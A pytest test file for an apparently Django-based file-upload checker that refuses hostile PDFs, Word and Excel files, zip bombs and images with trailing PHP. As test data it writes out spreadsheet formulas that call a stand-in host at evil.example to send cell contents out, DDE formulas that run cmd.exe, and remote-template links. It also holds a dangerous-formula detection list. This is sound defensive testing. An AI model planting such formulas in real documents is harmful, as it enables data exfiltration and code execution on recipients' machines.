"""Every hostile file refused by structure with its own message; clean files of each accepted
type still accepted. These call the checker directly; test_upload.py goes through the portal."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image

from partners.filecheck import MAX_EVIDENCE_BYTES, MESSAGES, check_evidence_file, office, pdf
from tests.partners import helpers

from . import builders as b

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def check(data, file_name):
    return check_evidence_file(SimpleUploadedFile(file_name, data))


def refusal_code(data, file_name):
    with pytest.raises(ValidationError) as refused:
        check(data, file_name)
    error = refused.value
    assert error.messages == [str(MESSAGES[error.code])]
    return error.code


HOSTILE = [
    # PDF
    ("pdf_open_action_js", b.pdf_open_action_js, "a.pdf", "pdf_script"),
    ("pdf_names_tree_js", b.pdf_names_tree_js, "a.pdf", "pdf_script"),
    ("pdf_orphan_js", b.pdf_orphan_js, "a.pdf", "pdf_script"),
    ("pdf_escaped_names_js", b.pdf_escaped_names_js, "a.pdf", "pdf_script"),
    ("pdf_page_aa_js", b.pdf_page_additional_action_js, "a.pdf", "pdf_script"),
    ("pdf_launch", b.pdf_launch_action, "a.pdf", "pdf_script"),
    ("pdf_javascript_link", b.pdf_javascript_link, "a.pdf", "pdf_script"),
    ("pdf_xfa", b.pdf_xfa_form, "a.pdf", "pdf_script"),
    ("pdf_embedded_exe", b.pdf_embedded_exe, "a.pdf", "embedded"),
    ("pdf_file_attachment", b.pdf_file_attachment_annotation, "a.pdf", "embedded"),
    ("pdf_html_polyglot", b.pdf_html_polyglot, "a.pdf", "polyglot"),
    ("pdf_html_appended", b.pdf_with_html_appended, "a.pdf", "polyglot"),
    ("pdf_zip_appended", b.pdf_with_zip_appended, "a.pdf", "polyglot"),
    ("pdf_encrypted", b.pdf_encrypted, "a.pdf", "pdf_encrypted"),
    ("pdf_damaged", b.pdf_damaged, "a.pdf", "damaged"),
    # Word
    ("docm_renamed_docx", b.docm_renamed_docx, "verslag.docx", "macro"),
    ("docx_vba_part", b.docx_with_vba_part_only, "verslag.docx", "macro"),
    ("docx_named_docm", helpers.docx_bytes, "verslag.docm", "macro"),
    ("docx_dde", b.docx_dde_field, "verslag.docx", "active_content"),
    ("docx_split_dde", b.docx_split_dde_field, "verslag.docx", "active_content"),
    (
        "docx_dde_in_another_part",
        lambda: helpers.docx_bytes(extra={"custom/kop.xml": b.docx_dde_part()}),
        "verslag.docx",
        "active_content",
    ),
    ("docx_xxe", b.docx_xxe, "verslag.docx", "damaged"),
    ("docx_billion_laughs", b.docx_billion_laughs, "verslag.docx", "damaged"),
    ("docx_ole_object", b.docx_with_ole_object, "verslag.docx", "embedded"),
    ("docx_activex", b.docx_with_activex, "verslag.docx", "embedded"),
    ("docx_duplicate_member", b.docx_duplicate_member, "verslag.docx", "damaged"),
    (
        "docx_attached_template",
        lambda: b.docx_with_relationships(
            b.relationship("attachedTemplate", "https://evil.example/t.dotm")
        ),
        "verslag.docx",
        "external",
    ),
    (
        "docx_remote_picture",
        lambda: b.docx_with_relationships(b.relationship("image", "https://evil.example/p.png")),
        "verslag.docx",
        "external",
    ),
    (
        "docx_unc_hyperlink",
        lambda: b.docx_with_relationships(b.relationship("hyperlink", "\\\\evil.example\\share")),
        "verslag.docx",
        "external",
    ),
    ("pptx", b.pptx_like, "dia.pptx", "file_type"),
    ("plain_zip", lambda: helpers.plain_zip().read(), "archief.xlsx", "file_type"),
    # Excel
    (
        "xlsx_hyperlink",
        lambda: b.xlsx_with_formula('=HYPERLINK("https://evil.example/?"&A1,"Klik")'),
        "cijfers.xlsx",
        "active_content",
    ),
    (
        "xlsx_dde_cmd",
        lambda: b.xlsx_with_formula("=cmd|' /C calc'!A0"),
        "cijfers.xlsx",
        "active_content",
    ),
    (
        "xlsx_webservice",
        lambda: b.xlsx_with_formula('=_xlfn.WEBSERVICE("https://evil.example/"&B1)'),
        "cijfers.xlsx",
        "active_content",
    ),
    (
        "xlsx_defined_name",
        lambda: b.xlsx_with_defined_name('HYPERLINK("https://evil.example")'),
        "cijfers.xlsx",
        "active_content",
    ),
    (
        "xlsx_sheet_elsewhere",
        lambda: b.xlsx_with_sheet_elsewhere('=HYPERLINK("https://evil.example")'),
        "cijfers.xlsx",
        "active_content",
    ),
    ("xlsx_external_link", b.xlsx_with_external_link, "cijfers.xlsx", "external"),
    ("xlsx_named_docx", b.xlsx_named_docx, "cijfers.docx", "name_mismatch"),
    ("entries_60000", lambda: b.many_entries(60_000), "cijfers.xlsx", "too_complex"),
    # Images and other types
    ("png_bomb", b.png_bomb, "foto.png", "image_too_large"),
    ("jpeg_truncated", b.jpeg_truncated, "foto.jpg", "damaged"),
    ("html_as_pdf", lambda: helpers.html_as_pdf().read(), "a.pdf", "file_type"),
    ("svg", lambda: helpers.svg_file().read(), "logo.svg", "file_type"),
    ("exe", lambda: b"MZ\x90\x00\x03" + b"\0" * 200, "a.pdf", "file_type"),
]


@pytest.mark.parametrize(
    ("make", "file_name", "code"),
    [pytest.param(make, file_name, code, id=case) for case, make, file_name, code in HOSTILE],
)
def test_hostile_file_is_refused_with_its_reason(make, file_name, code):
    assert refusal_code(make(), file_name) == code


def test_zip_bomb_is_refused_before_unpacking():
    bomb = b.zip_bomb(office.MAX_UNCOMPRESSED_BYTES + 1024 * 1024)
    assert len(bomb) < MAX_EVIDENCE_BYTES  # it passes the size limit ...
    assert refusal_code(bomb, "cijfers.xlsx") == "too_complex"  # ... but not the archive limit


def test_a_lying_end_record_does_not_hide_the_entries():
    data = bytearray(b.many_entries(office.MAX_ENTRIES + 500))
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = (5).to_bytes(2, "little") * 2  # "5 entries"
    assert refusal_code(bytes(data), "cijfers.xlsx") == "too_complex"


def test_zip64_end_record_is_read():
    assert refusal_code(b.many_entries(70_000), "cijfers.xlsx") == "too_complex"


def test_archive_just_within_the_entry_limit_is_judged_on_its_content():
    # Not refused for its size: refused because 1,999 empty parts are no workbook.
    assert refusal_code(b.many_entries(office.MAX_ENTRIES - 1), "x.xlsx") == "file_type"


CLEAN = [
    ("pdf", helpers.pdf_bytes, "certificaat.pdf", PDF, "pdf"),
    ("pdf_web_link", b.pdf_with_web_link, "certificaat.pdf", PDF, "pdf"),
    ("pdf_owner_password", lambda: b.pdf_encrypted(user_password=""), "c.pdf", PDF, "pdf"),
    ("docx", helpers.docx_bytes, "toelichting.docx", DOCX, "docx"),
    ("docx_page_field", b.docx_page_field, "toelichting.docx", DOCX, "docx"),
    (
        "docx_web_hyperlink",
        lambda: b.docx_with_relationships(
            b.relationship("hyperlink", "https://www.stichtingnormeringflexwonen.nl/")
        ),
        "toelichting.docx",
        DOCX,
        "docx",
    ),
    ("xlsx", b.xlsx_bytes, "cijfers.xlsx", XLSX, "xlsx"),
    (
        "xlsx_ordinary_formulas",
        lambda: b.xlsx_with_formula('=IF(SUM(B1:B3)>0,"ja|nee",VLOOKUP(A1,A1:B9,2,FALSE))'),
        "cijfers.xlsx",
        XLSX,
        "xlsx",
    ),
    ("xlsx_without_extension", b.xlsx_bytes, "cijfers", XLSX, "xlsx"),
]


@pytest.mark.parametrize(
    ("make", "file_name", "content_type", "extension"),
    [pytest.param(*case[1:], id=case[0]) for case in CLEAN],
)
def test_clean_file_is_accepted(make, file_name, content_type, extension):
    data = make()
    checked = check(data, file_name)
    assert (checked.content_type, checked.extension) == (content_type, extension)
    checked.file.seek(0)
    assert checked.file.read() == data  # stored as sent


def test_jpeg_is_stored_reencoded_without_payload_or_metadata():
    data = b.jpeg_with_gps_and_trailing_php()
    with Image.open(io.BytesIO(data)) as original:
        assert original.getexif().get_ifd(0x8825)  # the fixture really carries GPS
    checked = check(data, "foto.jpg")
    assert checked.content_type == "image/jpeg"
    stored = checked.file.read()
    assert b"<?php" not in stored and b"<script" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "JPEG"
        assert image.size == (32, 16)
        assert not image.getexif()
        assert image.getpixel((16, 8))[0] > 150  # still the red picture


def test_png_is_stored_reencoded_without_text_chunks_or_trailer():
    checked = check(b.png_with_text_payload(), "logo.png")
    stored = checked.file.read()
    assert b"<?php" not in stored and b"<html" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert image.format == "PNG" and image.mode == "RGBA" and image.size == (8, 8)
        assert image.text == {}
        assert image.getpixel((1, 1)) == (0, 96, 143, 128)


def test_photo_orientation_survives_the_metadata_stripping():
    image = Image.new("RGB", (40, 20), (0, 0, 255))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", exif=exif.tobytes())
    stored = check(buffer.getvalue(), "foto.jpg").file.read()
    with Image.open(io.BytesIO(stored)) as upright:
        assert upright.size == (20, 40)


def test_oversized_file_is_refused_before_it_is_inspected(monkeypatch):
    monkeypatch.setattr(pdf, "check_pdf", lambda data: pytest.fail("inspected"))
    assert refusal_code(helpers.large_pdf().read(), "groot.pdf") == "too_large"


def test_pdf_walk_gives_up_on_a_huge_object_graph(monkeypatch):
    monkeypatch.setattr(pdf, "MAX_OBJECTS", 3)
    assert refusal_code(b.pdf_with_web_link(), "a.pdf") == "too_complex"


def test_pdf_with_broken_xref_is_refused_cleanly():
    data = helpers.pdf_bytes().replace(b"startxref", b"startxxxx")
    data = data[: len(data) // 2] + b"\n%%EOF\n"
    assert refusal_code(data, "a.pdf") in {"damaged"}


def test_formula_rules():
    assert office.dangerous_formula('HYPERLINK("x")')
    assert office.dangerous_formula("_xlfn.WEBSERVICE(A1)")
    assert office.dangerous_formula("msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!A0")
    assert office.dangerous_formula('rtd ("prog.id",,"x")')
    assert not office.dangerous_formula('CONCAT("HYPERLINK(", "a|b")')  # only in strings
    assert not office.dangerous_formula("SUM(A1:A9)/COUNT(Tabel1[Werknemers])")
    assert not office.dangerous_formula("MYHYPERLINK(A1)")


def test_every_refusal_is_translated():
    for language in ("nl", "pl", "ro", "bg", "hu"):
        with translation.override(language):
            untranslated = [code for code, text in MESSAGES.items() if str(text) == text._args[0]]
        assert not untranslated, (language, untranslated)


def test_the_content_types_part_is_parsed_not_searched():
    # "word/" parts but a [Content_Types].xml that declares no document: not a Word file.
    data = helpers.docx_bytes(content_types="<Types/>")
    assert refusal_code(data, "a.docx") == "file_type"
    assert zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml")
